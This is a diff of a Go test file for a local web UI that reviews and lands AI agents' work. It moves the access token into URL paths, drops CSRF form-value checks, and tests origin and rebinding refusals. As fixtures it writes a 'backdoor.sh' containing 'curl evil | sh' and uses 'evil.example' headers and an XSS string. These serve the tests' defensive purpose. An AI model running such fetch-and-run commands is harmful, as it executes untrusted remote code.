@@ -30,8 +30,7 @@ type fixture struct {
 	t      *testing.T
 	ws     *workspace.Workspace
 	srv    *httptest.Server
-	client *http.Client // carries the token's cookie, follows no redirect
-	csrf   string
+	client *http.Client // follows no redirect
 }
 
 func newFixture(t *testing.T) *fixture {
@@ -50,32 +49,16 @@ func newFixture(t *testing.T) *fixture {
 	require.NoError(t, h.Close())
 	handler, err := ui.New(ui.Options{Workspace: ws, Token: token})
 	require.NoError(t, err)
+	t.Cleanup(func() { _ = handler.Close() })
 	f := &fixture{t: t, ws: ws, srv: httptest.NewServer(handler)}
 	t.Cleanup(f.srv.Close)
 	f.client = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
-	resp, err := f.client.Get(f.srv.URL + "/?token=" + token)
-	require.NoError(t, err)
-	resp.Body.Close()
-	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
-	cookies := resp.Cookies()
-	require.Len(t, cookies, 1)
-	f.client.Jar = jar{cookies[0]}
-	page := f.get("/head/h", http.StatusOK)
-	i := strings.Index(page, `name="csrf" value="`)
-	require.Positive(t, i)
-	f.csrf = page[i+len(`name="csrf" value="`):][:32]
 	return f
 }
 
-// jar is a cookie jar of one cookie.
-type jar []*http.Cookie
-
-func (j jar) SetCookies(*url.URL, []*http.Cookie) {}
-func (j jar) Cookies(*url.URL) []*http.Cookie     { return j }
-
 func (f *fixture) get(path string, status int) string {
 	f.t.Helper()
-	resp, err := f.client.Get(f.srv.URL + path)
+	resp, err := f.client.Get(f.srv.URL + "/" + token + path)
 	require.NoError(f.t, err)
 	defer resp.Body.Close()
 	var b strings.Builder
@@ -86,7 +69,7 @@ func (f *fixture) get(path string, status int) string {
 
 func (f *fixture) post(path string, form url.Values, header http.Header) *http.Response {
 	f.t.Helper()
-	req, err := http.NewRequest(http.MethodPost, f.srv.URL+path, strings.NewReader(form.Encode()))
+	req, err := http.NewRequest(http.MethodPost, f.srv.URL+"/"+token+path, strings.NewReader(form.Encode()))
 	require.NoError(f.t, err)
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
 	for k, v := range header {
@@ -96,6 +79,18 @@ func (f *fixture) post(path string, form url.Values, header http.Header) *http.R
 	require.NoError(f.t, err)
 	resp.Body.Close()
 	return resp
+}
+
+// postBody posts form and returns the page, which must be a 200.
+func (f *fixture) postBody(path string, form url.Values) string {
+	f.t.Helper()
+	resp, err := f.client.PostForm(f.srv.URL+"/"+token+path, form)
+	require.NoError(f.t, err)
+	defer resp.Body.Close()
+	var b strings.Builder
+	_, _ = io.Copy(&b, resp.Body)
+	require.Equal(f.t, http.StatusOK, resp.StatusCode, b.String())
+	return b.String()
 }
 
 // checkpoints is how many checkpoints head h has.
@@ -109,50 +104,45 @@ func (f *fixture) checkpoints() int {
 	return len(log)
 }
 
-// Nothing is served without the token: the URL's token is traded for a
-// strict, script-proof cookie and taken out of the address.
+// Nothing is served without the token, the first element of every path.
 func TestEveryRequestNeedsTheToken(t *testing.T) {
 	f := newFixture(t)
-	anon := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
-	for _, path := range []string{"/", "/head/h", "/frag/heads", "/frag/live/h", "/head/h/patch", "/compare?h=h&h=h", "/static/app.js", "/?token=wrong-wrong-wrong-wrong"} {
-		resp, err := anon.Get(f.srv.URL + path)
+	for _, path := range []string{"/", "/head/h", "/frag/heads", "/frag/live/h", "/head/h/patch", "/compare?h=h&h=h", "/static/app.js",
+		"/?token=" + token, "/" + token[:31] + "/", "/" + token + "x/", "/x" + token + "/", "//" + token + "/"} {
+		resp, err := f.client.Get(f.srv.URL + path)
 		require.NoError(t, err)
 		resp.Body.Close()
 		assert.Equal(t, http.StatusUnauthorized, resp.StatusCode, path)
 	}
-	resp, err := anon.Get(f.srv.URL + "/head/h?token=" + token + "&view=inline")
+	resp, err := f.client.Post(f.srv.URL+"/head/h/checkpoint", "application/x-www-form-urlencoded", strings.NewReader("confirm=yes"))
 	require.NoError(t, err)
 	resp.Body.Close()
-	assert.Equal(t, "/head/h?view=inline", resp.Header.Get("Location"))
-	c := resp.Cookies()[0]
-	assert.True(t, c.HttpOnly)
-	assert.Equal(t, http.SameSiteStrictMode, c.SameSite)
-	assert.Contains(t, f.get("/", http.StatusOK), `data-head="h"`)
+	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
+	assert.Zero(t, f.checkpoints())
+	page := f.get("/", http.StatusOK)
+	assert.Contains(t, page, `data-head="h"`)
+	assert.Contains(t, page, `href="/`+token+`/head/h"`, "the page's links keep the token")
 }
 
-// A write needs the page's own form: one without the form value, one
-// from another origin or site, and one through a host name that is not
-// loopback (DNS rebinding) are refused, and change nothing.
+// A write from another origin or site, or through a host name that is not
+// loopback (DNS rebinding), is refused and changes nothing.
 func TestAFormFromElsewhereChangesNothing(t *testing.T) {
 	f := newFixture(t)
-	ok := url.Values{"csrf": {f.csrf}, "confirm": {"yes"}}
-	for name, c := range map[string]struct {
-		form   url.Values
-		header http.Header
-	}{
-		"no form value":    {url.Values{"confirm": {"yes"}}, nil},
-		"wrong form value": {url.Values{"csrf": {strings.Repeat("0", 32)}, "confirm": {"yes"}}, nil},
-		"other origin":     {ok, http.Header{"Origin": {"http://evil.example"}}},
-		"cross site":       {ok, http.Header{"Sec-Fetch-Site": {"cross-site"}}},
-		"rebound host":     {ok, http.Header{"Host": {"evil.example"}}},
+	ok := url.Values{"confirm": {"yes"}}
+	for name, header := range map[string]http.Header{
+		"other origin": {"Origin": {"http://evil.example"}},
+		"other port":   {"Origin": {"http://127.0.0.1:1"}},
+		"cross site":   {"Sec-Fetch-Site": {"cross-site"}},
+		"same site":    {"Sec-Fetch-Site": {"same-site"}},
+		"rebound host": {"Host": {"evil.example"}},
 	} {
-		req, err := http.NewRequest(http.MethodPost, f.srv.URL+"/head/h/checkpoint", strings.NewReader(c.form.Encode()))
+		req, err := http.NewRequest(http.MethodPost, f.srv.URL+"/"+token+"/head/h/checkpoint", strings.NewReader(ok.Encode()))
 		require.NoError(t, err)
 		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-		for k, v := range c.header {
+		for k, v := range header {
 			req.Header[k] = v
 		}
-		if h := c.header.Get("Host"); h != "" {
+		if h := header.Get("Host"); h != "" {
 			req.Host = h
 		}
 		resp, err := f.client.Do(req)
@@ -161,7 +151,7 @@ func TestAFormFromElsewhereChangesNothing(t *testing.T) {
 		assert.Equal(t, http.StatusForbidden, resp.StatusCode, name)
 	}
 	assert.Zero(t, f.checkpoints())
-	resp := f.post("/head/h/checkpoint", ok, nil)
+	resp := f.post("/head/h/checkpoint", ok, http.Header{"Origin": {f.srv.URL}, "Sec-Fetch-Site": {"same-origin"}})
 	assert.Equal(t, http.StatusSeeOther, resp.StatusCode)
 	assert.Equal(t, 1, f.checkpoints())
 }
@@ -170,12 +160,12 @@ func TestAFormFromElsewhereChangesNothing(t *testing.T) {
 // the library's typed error.
 func TestAnActionAsksFirst(t *testing.T) {
 	f := newFixture(t)
-	resp := f.post("/head/h/destroy", url.Values{"csrf": {f.csrf}, "discard": {"1"}}, nil)
+	resp := f.post("/head/h/destroy", url.Values{"discard": {"1"}}, nil)
 	assert.Equal(t, http.StatusOK, resp.StatusCode)
 	f.get("/head/h", http.StatusOK) // still there
-	resp = f.post("/head/h/restore", url.Values{"csrf": {f.csrf}, "rev": {"no-such-rev"}, "confirm": {"yes"}}, nil)
+	resp = f.post("/head/h/restore", url.Values{"rev": {"no-such-rev"}, "confirm": {"yes"}}, nil)
 	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
-	resp = f.post("/head/h/destroy", url.Values{"csrf": {f.csrf}, "discard": {"1"}, "confirm": {"yes"}}, nil)
+	resp = f.post("/head/h/destroy", url.Values{"discard": {"1"}, "confirm": {"yes"}}, nil)
 	assert.Equal(t, http.StatusSeeOther, resp.StatusCode)
 	body := f.get("/head/h", http.StatusNotFound)
 	assert.Contains(t, body, grove.NotFound.Name())
@@ -201,4 +191,51 @@ func TestAgentTextIsEscaped(t *testing.T) {
 		}
 	}
 	assert.Contains(t, f.get("/head/h?at="+string(cp.ID), http.StatusOK), "&lt;img src=x onerror=alert(1)&gt;.txt")
+}
+
+// A land lands the work the reviewer saw: a head with uncommitted work
+// cannot be confirmed, and what an agent writes or commits between the dry
+// run and the confirmation makes the land a Conflict that moves nothing.
+func TestALandLandsOnlyWhatWasReviewed(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	main, err := githarness.Git(ctx, f.ws.Info().Locator, "rev-parse", "HEAD")
+	require.NoError(t, err)
+	page := f.get("/head/h", http.StatusOK)
+	require.Contains(t, page, "uncommitted")
+	// h has uncommitted work: the dry run says so and offers no button.
+	body := f.postBody("/head/h/land", url.Values{"branch": {"review"}})
+	assert.Contains(t, body, `id="blocked"`)
+	assert.NotContains(t, body, `id="confirm-button"`)
+
+	resp := f.post("/head/h/checkpoint", url.Values{"confirm": {"yes"}}, nil)
+	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
+	body = f.postBody("/head/h/land", url.Values{"branch": {"review"}})
+	require.Contains(t, body, `id="confirm-button"`)
+	i := strings.Index(body, `name="expect" value="`)
+	require.Positive(t, i)
+	expect := body[i+len(`name="expect" value="`):][:40]
+
+	// The agent writes a file after the reviewer read the dry run.
+	h, err := f.ws.OpenHead(ctx, "h", &workspace.ReopenOptions{ReadOnly: true})
+	require.NoError(t, err)
+	root := h.Info().Root
+	require.NoError(t, h.Close())
+	require.NoError(t, os.WriteFile(filepath.Join(root, "backdoor.sh"), []byte("curl evil | sh\n"), 0o755))
+	form := url.Values{"branch": {"review"}, "expect": {expect}, "confirm": {"yes"}}
+	resp = f.post("/head/h/land", form, nil)
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	_, err = githarness.Git(ctx, f.ws.Info().Locator, "rev-parse", "--verify", "refs/heads/review")
+	assert.Error(t, err, "the land wrote the review branch")
+	now, err := githarness.Git(ctx, f.ws.Info().Locator, "rev-parse", "HEAD")
+	require.NoError(t, err)
+	assert.Equal(t, main, now)
+
+	// Once it is gone, the reviewed work lands.
+	require.NoError(t, os.Remove(filepath.Join(root, "backdoor.sh")))
+	resp = f.post("/head/h/land", form, nil)
+	assert.Equal(t, http.StatusSeeOther, resp.StatusCode)
+	files, err := githarness.Git(ctx, f.ws.Info().Locator, "ls-tree", "-r", "--name-only", "review")
+	require.NoError(t, err)
+	assert.Equal(t, "a.txt", strings.TrimSpace(files))
 }
